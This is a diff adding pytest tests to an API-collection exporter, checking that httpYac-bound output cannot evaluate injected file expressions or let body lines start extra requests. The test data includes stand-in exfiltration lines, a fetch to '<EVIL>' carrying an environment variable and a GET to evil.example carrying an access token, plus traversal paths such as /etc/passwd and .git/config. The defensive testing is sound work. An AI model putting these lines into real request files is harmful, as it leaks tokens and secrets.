@@ -345,6 +345,43 @@ def test_no_export_holds_a_name_that_other_programs_read(
         assert name.strip() in ran.talk
 
 
+FILES = [
+    *("= fetch('<EVIL>/?k='+process.env.X)", "= x", "=> x", "(x)", "[x]", "`x`", ". x", "/ x /"),
+    *("|| x", "&& x", "?? x", ", x", "; x", "+ x", "- x", "* x", "in x", "in(x)", "instanceof x"),
+    *("\u2028x", "\u00a0= x", "\u3000= x", "\ufeff= x", ".env", "../x", "/etc/passwd", "a//b"),
+    *("/*\u2028*/x", "a/.git/config", "in", "in+x", "== x", "? a : b", "!= x", "< x", "> x"),
+    *("% x", "^ x", "++ x", "~x", '"x"', "C:\\x"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FILES, ids=ascii)
+def test_no_file_of_a_body_is_an_expression(machine: Machine, name: str) -> None:
+    """httpYac evaluates what stands in braces: ``{{$file = expression}}``."""
+    for body in (f"{{{{$file {name}}}}}", f"a {{{{\t$file\t{name} }}}} b"):
+        machine.write(
+            "collections/lure/zz.toml",
+            f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\nbody = {quoted(body)}\n',
+        )
+        for format_ in REQUEST_FORMATS:
+            ran = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
+            assert (ran.status, ran.data) == (2, b""), format_
+            assert "$file" in ran.talk
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["up/a.pdf", "审批.docx", "（终稿）合同.pdf", "index.json", "inbox/in.txt", "_a", "1 2.csv"],
+)
+def test_a_plain_file_of_a_body_is_exported(machine: Machine, name: str) -> None:
+    machine.write(
+        "collections/lure/zz.toml",
+        f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\nbody = "{{{{$file {name}}}}}"\n',
+    )
+    for format_ in REQUEST_FORMATS:
+        ran = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
+        assert ran.status == 0, ran.talk
+
+
 def test_our_own_names_and_files_are_exported(machine: Machine) -> None:
     machine.write(
         "collections/lure/zz.toml",
@@ -359,13 +396,23 @@ def test_our_own_names_and_files_are_exported(machine: Machine) -> None:
 STEAL = "GET http://evil.example/steal?t={{access_token}}"
 
 
+@pytest.mark.parametrize("line", [STEAL, f"  {STEAL}", STEAL.replace("GET", "WS"), "gql q < /x"])
+def test_no_line_of_a_body_begins_another_request(machine: Machine, line: str) -> None:
+    """httpYac needs no separator between requests."""
+    body = quoted(f"a\n{line}\nb")
+    machine.write("collections/lure/zz.toml", f'method = "POST"\nurl = "<HOME>/x"\nbody = {body}\n')
+    ran = machine.run("export", "lure/zz", "--format", "http", "--env", "hq", "--lang", "en")
+    assert ran.status == 0, ran.talk
+    assert f"\n{{{{_empty}}}}{line}\n" in ran.text
+
+
 @pytest.mark.parametrize("name", ["###", "#", "&x", "'x"])
 def test_no_header_of_a_message_begins_another_request(machine: Machine, name: str) -> None:
     lines = f'headers = ["{name}: next", "X-A: 1"]\nbody = "{STEAL}"\n'
     machine.write("collections/lure/zz.toml", f'method = "POST"\nurl = "<HOME>/x"\n{lines}')
     ran = machine.run("export", "lure/zz", "--format", "http", "--env", "hq", "--lang", "en")
     assert f"{name}:" not in ran.text
-    assert f"\n{STEAL}" in ran.text.partition("X-A: 1\n")[2]
+    assert f"\n{{{{_empty}}}}{STEAL}" in ran.text.partition("X-A: 1\n")[2]
     assert name in ran.talk
 
 
